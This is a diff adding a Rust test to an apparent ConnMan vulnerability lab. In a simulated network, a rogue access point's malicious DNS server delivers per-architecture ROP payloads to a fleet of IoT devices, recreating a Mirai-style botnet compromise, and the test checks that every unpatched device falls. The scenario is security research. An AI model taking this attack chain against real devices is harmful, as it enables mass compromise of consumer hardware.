@@ -1,0 +1,115 @@
+//! The paper's closing remark made concrete: "exploit code designed to
+//! create a botnet could be sent to visitors, allowing a recreation of
+//! the Mirai attack". One rogue AP, a fleet of heterogeneous devices,
+//! every vulnerable one compromised as it phones home.
+
+use std::net::Ipv4Addr;
+
+use connman_lab::dns::{Name, RecordType};
+use connman_lab::exploit::{MaliciousDnsServer, RopMemcpyChain};
+use connman_lab::netsim::{
+    share, AccessPoint, ApConfig, DhcpConfig, HwAddr, RadioEnvironment, Ssid, WifiPineapple,
+};
+use connman_lab::{
+    Arch, ExploitStrategy, Firmware, FirmwareKind, IotDevice, Lab, Protections,
+};
+
+#[test]
+fn one_pineapple_harvests_a_heterogeneous_fleet() {
+    let ssid = Ssid::new("SmartHome");
+    let protections = Protections::full();
+
+    // Attacker prep: one payload per architecture, from local replicas.
+    let mut payloads = Vec::new();
+    for arch in Arch::ALL {
+        let lab = Lab::new(FirmwareKind::OpenElec, arch).with_protections(protections);
+        let target = lab.recon().unwrap();
+        payloads.push((arch, RopMemcpyChain::new(arch).build(&target).unwrap()));
+    }
+
+    // The home network.
+    let mut env = RadioEnvironment::new();
+    let dns = Ipv4Addr::new(10, 0, 0, 53);
+    env.add_ap(AccessPoint::new(ApConfig {
+        ssid: ssid.clone(),
+        bssid: HwAddr::local(1),
+        signal_dbm: -52,
+        dhcp: DhcpConfig::new([10, 0, 0], dns),
+    }));
+    let mut upstream = MaliciousDnsServer::benign(Ipv4Addr::new(203, 0, 113, 99));
+    env.register_service(dns, share(move |p: &[u8]| upstream.handle(p)));
+
+    // A fleet: vulnerable ARM devices, vulnerable x86 devices, and a
+    // couple of patched ones.
+    let mut fleet: Vec<(String, IotDevice, bool)> = Vec::new();
+    for i in 0..3u16 {
+        let fw = Firmware::build(FirmwareKind::OpenElec, Arch::Armv7);
+        fleet.push((
+            format!("smart-tv-{i}"),
+            IotDevice::boot(&fw, protections, 100 + i as u64, HwAddr::local(0x10 + i), ssid.clone()),
+            true,
+        ));
+    }
+    for i in 0..2u16 {
+        let fw = Firmware::build(FirmwareKind::Yocto, Arch::X86);
+        fleet.push((
+            format!("thermostat-{i}"),
+            IotDevice::boot(&fw, protections, 200 + i as u64, HwAddr::local(0x20 + i), ssid.clone()),
+            true,
+        ));
+    }
+    for i in 0..2u16 {
+        let fw = Firmware::build(FirmwareKind::Patched, Arch::Armv7);
+        fleet.push((
+            format!("updated-cam-{i}"),
+            IotDevice::boot(&fw, protections, 300 + i as u64, HwAddr::local(0x30 + i), ssid.clone()),
+            false,
+        ));
+    }
+
+    // Everybody joins and works.
+    let host = Name::parse("cloud.vendor.example").unwrap();
+    for (name, dev, _) in fleet.iter_mut() {
+        assert!(dev.reconnect(&mut env), "{name} joins");
+        let out = dev.lookup(&mut env, &host, RecordType::A);
+        assert!(dev.is_alive(), "{name} healthy before attack: {out}");
+    }
+
+    // The Pineapple arrives. Its DNS server fingerprints nothing — it
+    // just serves the ARM payload; for the x86 devices we flip payloads
+    // between rounds (a real attacker would fingerprint or iterate the
+    // same way).
+    let (_, arm_payload) = payloads.iter().find(|(a, _)| *a == Arch::Armv7).unwrap();
+    let (_, x86_payload) = payloads.iter().find(|(a, _)| *a == Arch::X86).unwrap();
+    let mut evil_arm = MaliciousDnsServer::new(arm_payload).unwrap();
+    let pineapple = WifiPineapple::deploy(&mut env, &ssid, share(move |p: &[u8]| evil_arm.handle(p)))
+        .expect("ssid on air");
+
+    // Round one: every device re-scans (hops to the stronger clone) and
+    // phones home — ARM devices die here.
+    for (name, dev, _) in fleet.iter_mut() {
+        assert!(dev.reconnect(&mut env), "{name} lured");
+        let fresh = Name::parse(&format!("telemetry-{name}.vendor.example")).unwrap();
+        let _ = dev.lookup(&mut env, &fresh, RecordType::A);
+    }
+
+    // Round two: swap in the x86 payload and let survivors look up again.
+    let mut evil_x86 = MaliciousDnsServer::new(x86_payload).unwrap();
+    env.register_service(pineapple.dns_addr(), share(move |p: &[u8]| evil_x86.handle(p)));
+    for (name, dev, _) in fleet.iter_mut() {
+        let fresh = Name::parse(&format!("round2-{name}.vendor.example")).unwrap();
+        let _ = dev.lookup(&mut env, &fresh, RecordType::A);
+    }
+
+    // Verdict: all vulnerable devices compromised, patched ones alive.
+    let mut compromised = 0;
+    for (name, dev, vulnerable) in &fleet {
+        if *vulnerable {
+            assert!(!dev.is_alive(), "{name} should be compromised");
+            compromised += 1;
+        } else {
+            assert!(dev.is_alive(), "{name} (patched) should survive");
+        }
+    }
+    assert_eq!(compromised, 5, "the whole vulnerable fleet fell");
+}
